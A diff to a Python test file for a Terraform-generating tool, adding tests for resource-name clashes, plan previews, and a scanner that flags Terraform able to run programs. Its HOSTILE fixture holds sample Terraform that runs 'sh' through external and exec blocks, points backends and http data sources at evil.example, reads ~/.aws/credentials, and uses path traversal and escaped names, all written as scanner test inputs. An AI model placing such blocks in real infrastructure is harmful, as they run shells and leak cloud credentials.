@@ -16,6 +16,7 @@ from ecrwiz.flow.project import Project, open_project
 from ecrwiz.flow.runbook import survey
 from ecrwiz.flow.steps import render
 from ecrwiz.model.errors import BadInputError, EcrwizError
+from ecrwiz.model.results import Plan
 from ecrwiz.services import hcl
 from tests.test_three_way import _render
 
@@ -98,7 +99,7 @@ async def test_a_file_with_the_name_of_ours_is_theirs(opened: Opened, next_app: 
     _put(next_app, main=PROVIDER + VPC)
     project = await opened()
     existing = layout.look(project)
-    assert existing.lines[0].startswith("infra/main.tf: a file of that name")
+    assert existing.lines[0] == "infra/main.tf: a file of that name is rendered by ecrwiz too"
     assert existing.can_reuse, "with reuse, ours have names of their own"
     told, _, error = await _render(project, Approvals(everything=True))
     assert "infra/main.tf" in error, "--yes does not replace somebody's Terraform"
@@ -130,6 +131,80 @@ async def test_the_answer_is_kept_and_leaves_the_step_fresh(opened: Opened, next
     assert result is not None
     assert all((next_app / path).is_file() for path in result.written)
     assert (await survey(await opened()))[StepId.RENDER].status is Status.FRESH
+
+
+SAME = {
+    "infra": 'resource "aws_ecr_repository" "app" {\n  name = "web/blog/nextjs"\n}\n',
+    "beside": 'resource "aws_iam_user" "ci" {\n  name = "CI-blog-dev-server-user"\n}\n',
+}
+
+
+@pytest.mark.parametrize("chosen", ["infra", "beside"])
+async def test_a_repository_or_user_of_the_very_name_stops_it(opened: Opened, next_app: Path, chosen: str) -> None:
+    _put(next_app, modules__registry__theirs=SAME[chosen])
+    project = await opened(infra_layout=chosen)
+    kind = "repository" if chosen == "infra" else "user"
+    (line,) = (line for line in layout.look(project).lines if "declares the same" in line)
+    assert line.startswith("infra/modules/registry/theirs.tf: resource aws_")
+    assert line.endswith(kind)
+    _, _, error = await _render(project, Approvals(everything=True))
+    assert f"declares the same {kind}" in error
+    assert not (next_app / "Dockerfile").exists()
+    found = await preview.preview(project)
+    assert found.clash is not None
+    assert not found.beside
+    assert "choose another project_id" in found.clash.hint
+
+
+async def test_other_names_and_names_of_variables_do_not_stop_it(opened: Opened, next_app: Path) -> None:
+    _put(next_app, theirs=SAME["infra"].replace("/nextjs", "/other") + "# web/blog/nextjs\n" + REPOSITORY)
+    _put(next_app, more='resource "aws_ecr_repository" "v" {\n  name = "${var.x}/nextjs"\n}\n# web/blog/nextjs\n')
+    assert layout.look(await opened()).same == ()
+
+
+async def test_a_plan_shows_what_is_there_and_how_it_would_be_beside(
+    opened: Opened, next_app: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from ecrwiz import reports
+
+    _put(next_app, aws=PROVIDER + PINS, state=S3, ecr=REPOSITORY)
+    project = await opened()
+
+    async def planned(of: Project, folder: Path, *_: object, **__: object) -> Plan:
+        assert of.paths.infra_folder == "infra/ecrwiz"
+        assert (folder / "main.tf").is_file()
+        assert not (folder / "ecr.tf").exists()
+        return Plan(())
+
+    monkeypatch.setattr(preview, "_plan", planned)
+    found = await preview.preview(project)
+    assert found.beside
+    assert found.plan is not None
+    assert "infra/ecrwiz/main.tf" in {change.path for change in found.files}
+    assert "infra/ecr.tf: resource aws_ecr_repository.shop" in found.existing
+    assert project.paths.infra_folder == project.tools.paths.infra_folder == "infra", "looking changes nothing"
+    assert not (next_app / "infra" / "ecrwiz").exists()
+    assert await reports.print_plan(project, imports=False, run_programs=False, as_json=False) == 2
+    said = capsys.readouterr()
+    assert "infra/state.tf: backend s3: ecrwiz's files declare it too" in said.out
+    assert "infra/ecrwiz/main.tf" in said.out
+    assert "--set infra_layout=reuse" in said.err
+
+
+@pytest.mark.parametrize("shape", ["infra", "beside", "reuse"])
+async def test_ours_in_every_shape_run_no_programs(opened: Opened, next_app: Path, shape: str) -> None:
+    if shape == "reuse":
+        _put(next_app, aws=PROVIDER)
+    _, _, error = await _render(await opened(infra_layout=shape))
+    assert not error
+    assert hcl.programs(next_app / "infra", {}) == ()
+
+
+async def test_a_clash_in_reuse_names_the_other_layout(opened: Opened, next_app: Path) -> None:
+    _put(next_app, aws=PROVIDER, mine='module "ci_user" {\n  source = "./x"\n}\n')
+    with pytest.raises(BadInputError) as caught:
+        await render.changes(await opened(infra_layout="reuse"))
+    assert caught.value.hint.endswith("or take infra_layout = beside.")
 
 
 async def test_stopping_writes_nothing(opened: Opened, next_app: Path) -> None:
@@ -187,6 +262,79 @@ def test_what_runs_programs_is_found_with_file_and_block(tmp_path: Path) -> None
         "up.tf: module u (code from ../elsewhere, not looked into)": True,
         "x.tf.json: JSON (not looked into, may run programs)": True,
     }
+
+
+HOSTILE = {
+    "escape": 'data "exter\\u006eal" "x" {\n  program = ["sh"]\n}\n',
+    "link": 'module "m" {\n  source = "./linked"\n}\n',
+    "hidden": 'module "m" {\n  source = "./node_modules/m"\n}\n',
+    "capitals": 'module "m" {\n  source = "./.Terraform/m"\n}\n',
+    "up": 'module "m" {\n  source = "./x/\\u002e./\\u002e./evil"\n}\n',
+    "absent": 'module "m" {\n  source = "./nowhere"\n}\n',
+    "config": 'provider "aws" {\n  shared_config_files = ["x"]\n}\n',
+    "endpoint": 'provider "aws" {\n  endpoints {\n    s3 = "https://evil.example"\n  }\n}\n',
+    "exec": 'provider "kubernetes" {\n  exec {\n    command = "sh"\n  }\n}\n',
+    "state": 'terraform {\n  backend "s3" {\n    shared_config_files = ["x"]\n  }\n}\n',
+    "remote": 'terraform {\n  backend "http" {\n    address = "https://evil.example"\n  }\n}\n',
+    "command": 'data "local_command" "x" {\n  command = "sh"\n}\n',
+    "http": 'data "http" "x" {\n  url = "https://evil.example"\n}\n',
+    "leak": 'data "aws_s3_object" "x" {\n  bucket = "b"\n  key = file("~/.aws/credentials")\n}\n',
+    "comment": 'locals {\n  x = file /* */ ("~/.aws/credentials")\n}\n',
+    "out": 'locals {\n  x = file("${path.module}/../../secret")\n}\n',
+    "ephemeral": 'ephemeral "external" "x" {\n  program = ["sh"]\n}\n',
+    "action": 'action "local_command" "x" {\n  config {\n    command = "sh"\n  }\n}\n',
+    "pin": 'terraform {\n  required_providers {\n    aws = {\n      source = "hashicorp/../evil"\n    }\n  }\n}\n',
+    "resource": 'resource "helm_release" "x" {\n  name = "x"\n}\n',
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_what_is_not_known_to_be_harmless_is_asked_about(tmp_path: Path, name: str) -> None:
+    _put(tmp_path, real__a=VPC, **{name: HOSTILE[name]})
+    (tmp_path / "infra" / "linked").symlink_to("real")
+    for hidden in ("node_modules/m", ".Terraform/m"):
+        (tmp_path / "infra" / hidden).mkdir(parents=True)
+    found = hcl.programs(tmp_path / "infra", {})
+    assert [(program.block.file, program.at_plan) for program in found] == [(f"{name}.tf", True)]
+
+
+HARMLESS = (
+    VPC,
+    PROVIDER.replace("}", '  alias = "x"\n  default_tags {\n    tags = {\n      a = "b"\n    }\n  }\n}'),
+    S3,
+    'data "aws_ami" "x" {\n  owners = ["self"]\n}\n',
+    'resource "random_id" "x" {\n  byte_length = 4\n}\nresource "terraform_data" "x" {\n}\n',
+    'locals {\n  policy = file("${path.module}/policy.json")\n}\n',
+    'locals {\n  x = templatefile("${path.module}/a.tftpl", { a = 1 })\n}\n',
+    'variable "x" {\n  type = string\n}\noutput "x" {\n  value = var.x\n}\n',
+    "moved {\n  from = a.b\n  to = a.c\n}\n",
+)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_everyday_terraform_is_not_asked_about(tmp_path: Path, text: str) -> None:
+    _put(tmp_path, x=text)
+    assert hcl.programs(tmp_path / "infra", {}) == ()
+
+
+def test_too_many_files_and_a_folder_of_providers_are_told(tmp_path: Path) -> None:
+    _put(tmp_path, **{f"f{number:03}": "" for number in range(301)})
+    (tmp_path / "infra" / "terraform.d").mkdir()
+    found = hcl.programs(tmp_path / "infra", {})
+    assert [str(program) for program in found] == [
+        "terraform.d: a folder that Terraform takes providers from (may run programs)",
+        "f300.tf: more than 300 files (the rest is not looked into)",
+    ]
+    assert all(program.at_plan for program in found)
+
+
+async def test_a_folder_of_providers_does_not_come_into_the_plan(tmp_path: Path) -> None:
+    plugin = tmp_path / "infra" / "terraform.d" / "plugins" / "x.zip"
+    plugin.parent.mkdir(parents=True)
+    plugin.write_text("x")
+    _put(tmp_path, vpc=VPC)
+    preview._copy(tmp_path / "infra", tmp_path / "copy")
+    assert [path.name for path in (tmp_path / "copy").iterdir()] == ["vpc.tf"]
 
 
 async def test_ours_run_no_programs(opened: Opened, next_app: Path) -> None:
